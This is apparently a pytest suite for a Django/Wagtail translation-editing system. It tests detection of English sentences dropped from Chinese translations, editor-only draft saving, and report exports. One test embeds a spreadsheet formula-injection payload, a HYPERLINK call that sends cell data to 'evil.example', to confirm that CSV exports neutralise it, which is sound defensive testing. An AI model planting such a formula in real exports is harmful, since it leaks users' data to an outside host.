"""Re-checking coverage on an existing article, and the English sentences a translation left
out, marked wherever editors read a section.

A section marked ``full`` whose Chinese silently dropped the middle sentence of a paragraph:
``check_coverage`` and the admin screen propose ``abridged`` naming that sentence; accepting
saves one draft revision (nothing published, no reader note written), refused when the
article changed since and for anyone but editors. The review screen, the abridgment-review
screen and the Abridgments report (and its exports) mark the sentence in the English.
"""

from __future__ import annotations

import csv
import io
import json
from io import StringIO

from django.core.management import call_command
from django.urls import reverse

from wagtail.models import Revision

import pytest
from bs4 import BeautifulSoup
from openpyxl import load_workbook

from articles.content.cut_sentences import (
    coverage_digest,
    coverage_record,
    mark_sentences,
    stored_coverage,
)
from articles.editorial.section_rules import section_errors
from articles.importing.adapter import Source, create_article, plan_import
from articles.importing.engine.coverage import section_coverage
from articles.models import ArticlePage, section_versions
from tests.admin_refusal import refused
from tests.factories import (
    ArticleIndexPageFactory,
    ArticlePageFactory,
    ArticleSectionFactory,
    TermFactory,
)
from tests.rendered_forms import RenderedForm

pytestmark = pytest.mark.django_db

DROPPED = "The lab moved to San Francisco in 2016, after a long search for offices."
EN_CUT = (
    "<p>OpenAI was founded in 2015 by Sam Altman and others. "
    f"{DROPPED} "
    "It trained GPT-2 in 2019 with 1.5 billion parameters.</p>"
    "<p>The second paragraph is about Mr. Smith and his 3 dogs.</p>"
)
ZH_CUT = (
    "<p>OpenAI 于 2015 年由 Sam Altman 等人创立。它在 2019 年训练了拥有 15 亿参数的 GPT-2。</p>"
    "<p>第二段讲的是史密斯先生和他的 3 条狗。</p>"
)
EN_FULL = "<p>In 1986 Geoffrey Hinton published backpropagation with 2 colleagues.</p>"
ZH_FULL = "<p>1986 年，Geoffrey Hinton 与 2 位同事发表了反向传播。</p>"


@pytest.fixture
def article(home_page) -> ArticlePage:
    page = ArticlePageFactory()
    ArticleSectionFactory(page=page, body_en=EN_CUT, body_zh_hans=ZH_CUT, status="full")
    ArticleSectionFactory(page=page, body_en=EN_FULL, body_zh_hans=ZH_FULL, status="full")
    page.save_revision().publish()
    return ArticlePage.objects.get(pk=page.pk)


def coverage_url(page) -> str:
    return reverse("articles_coverage", args=(page.pk,))


# --- The pure helpers -------------------------------------------------------------------------


def test_a_dropped_middle_sentence_is_named():
    coverage = section_coverage(EN_CUT, ZH_CUT)
    assert coverage.status == "abridged"
    assert coverage.missing == [DROPPED]


def test_stored_coverage_is_ignored_once_either_text_changes():
    record = coverage_record(section_coverage(EN_CUT, ZH_CUT), EN_CUT, ZH_CUT)
    assert stored_coverage(record, EN_CUT, ZH_CUT).missing == [DROPPED]
    assert stored_coverage(record, EN_CUT, ZH_CUT + "<p>补上了。</p>") is None
    assert stored_coverage(record, EN_CUT.replace("3 dogs", "4 dogs"), ZH_CUT) is None
    assert stored_coverage({"status": "full"}, EN_CUT, ZH_CUT) is None
    assert stored_coverage(None, EN_CUT, ZH_CUT) is None
    # Markup alone does not make it stale: the digest is over the paragraphs' text.
    assert coverage_digest(EN_CUT, ZH_CUT) == coverage_digest(
        EN_CUT.replace("<p>", '<p class="x">'), ZH_CUT
    )


def test_marking_escapes_text_and_crosses_inline_tags():
    html = "<p>Before. Use &lt;script&gt; &amp; <b>bold</b> words here. After.</p>"
    marked = mark_sentences(html, ["Use <script> & bold words here."])
    assert "<script>" not in marked
    assert '<mark class="cut-sentence">Use &lt;script&gt; &amp; </mark><b>' in marked
    assert '<b><mark class="cut-sentence">bold</mark></b>' in marked
    assert "Before. " in marked and " After." in marked
    # Nothing to mark: the rich text as it was.
    assert mark_sentences(html, []) == html


# Three alike paragraphs, the first left out of the Chinese: only the names and places, in the
# glossary, tell the aligner which one it was.
FELD = "Marcus Feld spent a decade at the laboratory in Zurich before leaving for industry."
KOWAL = "Anna Kowal spent a decade at the institute in Warsaw before leaving for industry."
ZIELIN = "Piotr Zielin spent a decade at the university in Krakow before leaving for industry."
EN_ALIKE = "\n\n".join([FELD, KOWAL, ZIELIN])
ZH_ALIKE = "\n\n".join(
    [
        "科瓦尔在华沙的研究所工作了十年，之后转投业界。",
        "齐林在克拉科夫的大学工作了十年，之后转投业界。",
    ]
)
NAMES_AND_PLACES = [
    ("Marcus Feld", "费尔德"),
    ("Anna Kowal", "科瓦尔"),
    ("Piotr Zielin", "齐林"),
    ("Zurich", "苏黎世"),
    ("Warsaw", "华沙"),
    ("Krakow", "克拉科夫"),
]


def test_the_same_texts_with_other_anchors_are_aligned_again():
    assert section_coverage(EN_ALIKE, ZH_ALIKE).missing == [KOWAL]
    assert section_coverage(EN_ALIKE, ZH_ALIKE, glossary=NAMES_AND_PLACES).missing == [FELD]
    assert section_coverage(EN_ALIKE, ZH_ALIKE, names=NAMES_AND_PLACES[:3]).missing == [FELD]
    assert section_coverage(EN_ALIKE, ZH_ALIKE).missing == [KOWAL]


def test_a_coverage_asked_for_again_is_unchanged_by_what_a_caller_did_to_the_last():
    first = section_coverage(EN_CUT, ZH_CUT)
    first.missing.append("调用方自己加的")
    first.paragraphs[0].missing.clear()
    first.status = "full"
    again = section_coverage(EN_CUT, ZH_CUT)
    assert (again.status, again.missing) == ("abridged", [DROPPED])
    assert again.paragraphs[0].missing == [DROPPED]


# --- The command ------------------------------------------------------------------------------


def test_check_coverage_proposes_abridged_with_the_dropped_sentence(article):
    out = StringIO()
    call_command("check_coverage", str(article.pk), stdout=out)
    text = out.getvalue()
    assert "§1" in text and "full -> abridged" in text
    assert f"missing: {DROPPED}" in text
    assert "§2" in text and "full (unchanged)" in text

    out = StringIO()
    call_command("check_coverage", str(article.pk), "--json", stdout=out)
    data = json.loads(out.getvalue())
    first, second = data["sections"]
    assert (first["status"], first["proposed"], first["missing"]) == ("full", "abridged", [DROPPED])
    assert (second["proposed"], second["missing"]) == ("full", [])
    # Nothing saved.
    assert Revision.objects.filter(object_id=str(article.pk)).count() == 1


def test_check_coverage_names_an_unknown_page(db):
    from django.core.management import CommandError

    with pytest.raises(CommandError, match="no article"):
        call_command("check_coverage", "999999")


# --- The admin screen -------------------------------------------------------------------------


def test_editor_accepts_the_proposal_into_a_draft_revision(client, article, editor_user):
    client.force_login(editor_user)
    response = client.get(coverage_url(article))
    assert response.status_code == 200
    html = response.content.decode()
    assert f'<mark class="cut-sentence">{DROPPED}</mark>' in html
    form = RenderedForm(html, "form#coverage-accept")
    first = section_versions.latest(article)[0]
    assert form.data()["section"] == [str(first.key)]

    response = client.post(form.action, form.data())
    assert response.status_code == 302
    page = ArticlePage.objects.get(pk=article.pk)
    cut, full = section_versions.latest(page)
    assert (cut.status, cut.note) == ("abridged", "")
    assert stored_coverage(cut.coverage, cut.body_en, cut.body_zh_hans).missing == [DROPPED]
    assert full.status == "full"
    assert stored_coverage(full.coverage, full.body_en, full.body_zh_hans).status == "full"
    # A draft: readers still see the published sections as they were.
    assert [s.status for s in section_versions.live(page)] == ["full", "full"]
    assert page.has_unpublished_changes
    # The rule that an abridged section needs a note for readers still applies.
    assert "note" in section_errors(cut.rule_input())


def test_a_glossary_change_reaches_the_screens_that_align_again(client, home_page, editor_user):
    page = ArticlePageFactory()
    ArticleSectionFactory(page=page, body_en=EN_ALIKE, body_zh_hans=ZH_ALIKE, status="full")
    page.save_revision().publish()
    client.force_login(editor_user)
    screens = [coverage_url(page), reverse("articles_review:review", args=(page.pk,))]

    def marked() -> list[set[str]]:
        found = []
        for url in screens:
            soup = BeautifulSoup(client.get(url).content, "html.parser")
            found.append({mark.get_text() for mark in soup.select("mark.cut-sentence")})
        return found

    assert marked() == [{KOWAL}, {KOWAL}]
    for english, chinese in NAMES_AND_PLACES:
        TermFactory(term_en=english, term_zh_hans=chinese)
    assert marked() == [{FELD}, {FELD}]


def test_unchecked_sections_keep_their_status(client, article, editor_user):
    client.force_login(editor_user)
    form = RenderedForm(client.get(coverage_url(article)).content, "form#coverage-accept")
    data = form.data()
    data.pop("section")
    assert client.post(form.action, data).status_code == 302
    cut, _full = section_versions.latest(ArticlePage.objects.get(pk=article.pk))
    assert cut.status == "full"
    assert stored_coverage(cut.coverage, cut.body_en, cut.body_zh_hans).missing == [DROPPED]


def test_accepting_is_refused_when_the_article_changed_since(client, article, editor_user):
    client.force_login(editor_user)
    form = RenderedForm(client.get(coverage_url(article)).content, "form#coverage-accept")
    ArticlePage.objects.get(pk=article.pk).save_revision(user=editor_user)
    revisions = Revision.objects.filter(object_id=str(article.pk)).count()

    response = client.post(form.action, form.data())
    assert response.status_code == 409
    assert 'id="coverage-error"' in response.content.decode()
    assert Revision.objects.filter(object_id=str(article.pk)).count() == revisions
    assert section_versions.latest(ArticlePage.objects.get(pk=article.pk))[0].status == "full"


@pytest.mark.parametrize("role", ["translator_user", "reviewer_user"])
def test_only_editors_recheck_coverage(client, article, editor_user, role, request):
    client.force_login(editor_user)
    form = RenderedForm(client.get(coverage_url(article)).content, "form#coverage-accept")
    client.force_login(request.getfixturevalue(role))
    assert refused(client.get(coverage_url(article)))
    assert refused(client.post(form.action, form.data()))
    assert section_versions.latest(ArticlePage.objects.get(pk=article.pk))[0].status == "full"


def test_the_editor_header_offers_the_recheck(client, article, editor_user, translator_user):
    client.force_login(editor_user)
    html = client.get(reverse("wagtailadmin_pages:edit", args=(article.pk,))).content.decode()
    assert coverage_url(article) in html
    client.force_login(translator_user)
    html = client.get(reverse("wagtailadmin_pages:edit", args=(article.pk,))).content.decode()
    assert coverage_url(article) not in html


def review_actions(client, page: ArticlePage) -> list[str]:
    """The addresses the review screen's action buttons lead to."""
    response = client.get(reverse("articles_review:review", args=(page.pk,)))
    assert response.status_code == 200
    nav = BeautifulSoup(response.content, "html.parser").select_one(".review-summary__actions")
    return [a["href"] for a in nav.select("a[href]") if a.get_text(strip=True)]


def test_the_review_screen_leads_editors_to_the_recheck(client, article, editor_user):
    client.force_login(editor_user)
    assert coverage_url(article) in review_actions(client, article)
    response = client.get(coverage_url(article))
    assert response.status_code == 200
    assert DROPPED in response.content.decode()


@pytest.mark.parametrize("role", ["translator_user", "reviewer_user"])
def test_the_review_screen_offers_no_recheck_to_other_roles(client, article, role, request):
    client.force_login(request.getfixturevalue(role))
    actions = review_actions(client, article)
    assert reverse("articles_review:revisions", args=(article.pk,)) in actions
    assert coverage_url(article) not in actions


# --- Marked on the editors' screens -----------------------------------------------------------


@pytest.fixture
def abridged(home_page) -> ArticlePage:
    page = ArticlePageFactory()
    ArticleSectionFactory(
        page=page,
        body_en=EN_CUT.replace("Mr. Smith", "Mr. &lt;b&gt;Smith&lt;/b&gt;"),
        body_zh_hans=ZH_CUT,
        status="abridged",
        note="删去了搬家的细节。",
    )
    page.save_revision().publish()
    return ArticlePage.objects.get(pk=page.pk)


MARKED = f'<mark class="cut-sentence">{DROPPED}</mark>'


def test_review_screen_marks_the_missing_sentence(client, article, editor_user):
    client.force_login(editor_user)
    html = client.get(reverse("articles_review:review", args=(article.pk,))).content.decode()
    assert html.count(MARKED) == 2  # in the English and in the list under it
    assert "<b>Smith" not in html


def test_review_screen_marks_an_abridged_section_and_escapes(client, abridged, editor_user):
    client.force_login(editor_user)
    html = client.get(reverse("articles_review:review", args=(abridged.pk,))).content.decode()
    assert MARKED in html
    assert "&lt;b&gt;Smith" in html and "<b>Smith" not in html


def test_abridgment_review_marks_the_missing_sentence(client, abridged, reviewer_user):
    client.force_login(reviewer_user)
    url = reverse("articles_abridgment_review", args=(abridged.pk,))
    html = client.get(url).content.decode()
    assert html.count(MARKED) == 2
    assert "&lt;b&gt;Smith" in html and "<b>Smith" not in html


def test_the_report_and_its_exports_name_the_missing_sentence(client, abridged, editor_user):
    client.force_login(editor_user)
    report = reverse("articles_abridgment_report")
    html = client.get(report).content.decode()
    assert MARKED in html

    response = client.get(report, {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    column = rows[0].index("Missing sentences") if "Missing sentences" in rows[0] else None
    if column is None:  # the Chinese admin
        column = next(i for i, h in enumerate(rows[0]) if "句" in h)
    assert rows[1][column] == DROPPED

    response = client.get(report, {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert DROPPED in [cell.value for cell in sheet[2]]


def test_report_cells_of_missing_sentences_are_neutralised(client, home_page, editor_user):
    formula = '=HYPERLINK("https://evil.example/?"&A1) takes you somewhere unexpected.'
    page = ArticlePageFactory()
    ArticleSectionFactory(
        page=page,
        body_en=(
            "<p>OpenAI was founded in 2015 by Sam Altman and others.</p>"
            f"<p>{formula}</p>"
            "<p>It trained GPT-2 in 2019 with 1.5 billion parameters.</p>"
        ),
        body_zh_hans=(
            "<p>OpenAI 于 2015 年由 Sam Altman 等人创立。</p>"
            "<p>它在 2019 年训练了拥有 15 亿参数的 GPT-2。</p>"
        ),
        status="abridged",
        note="删去了一个链接。",
    )
    page.save_revision().publish()
    client.force_login(editor_user)
    response = client.get(reverse("articles_abridgment_report"), {"export": "csv"})
    body = b"".join(response.streaming_content).decode()
    assert "'=HYPERLINK" in body
    assert ',"=HYPERLINK' not in body and ",=HYPERLINK" not in body


# --- Stored when an import or an attached original is accepted ---------------------------------


def test_an_import_stores_each_sections_coverage(home_page, editor_user):
    english = Source(
        "# A history\n\nOpenAI was founded in 2015 by Sam Altman and others. "
        f"{DROPPED} It trained GPT-2 in 2019 with 1.5 billion parameters.",
        format="markdown",
    )
    chinese = Source(
        "# 一段历史\n\nOpenAI 于 2015 年由 Sam Altman 等人创立。它在 2019 年训练了拥有 15 亿参数的 "
        "GPT-2。\n\n原文链接：https://example.com/history",
        format="markdown",
    )
    result = plan_import(english, chinese, people=[], anchors=[])
    page = create_article(result, ArticleIndexPageFactory(), editor_user)
    (section,) = section_versions.latest(page)
    found = stored_coverage(section.coverage, section.body_en, section.body_zh_hans)
    assert found is not None and found.missing == [DROPPED]


def test_attaching_the_original_stores_each_sections_coverage(home_page, editor_user):
    from articles.importing.adapter.attach import accept_attach, plan_attach

    page = ArticlePageFactory(original_attached=False)
    ArticleSectionFactory(page=page, body_en="", body_zh_hans=ZH_CUT, status="pending")
    page.save_revision()
    page = ArticlePage.objects.get(pk=page.pk)
    english = (
        "# A history\n\nOpenAI was founded in 2015 by Sam Altman and others. "
        f"{DROPPED} It trained GPT-2 in 2019 with 1.5 billion parameters.\n\n"
        "The second paragraph is about Mr. Smith and his 3 dogs."
    )
    plan = plan_attach(page, Source(english, format="markdown"), anchors=[])
    accept_attach(page, plan, user=editor_user, loaded_revision_id=page.latest_revision_id)
    (section,) = section_versions.latest(ArticlePage.objects.get(pk=page.pk))
    found = stored_coverage(section.coverage, section.body_en, section.body_zh_hans)
    assert found is not None and found.missing == [DROPPED]
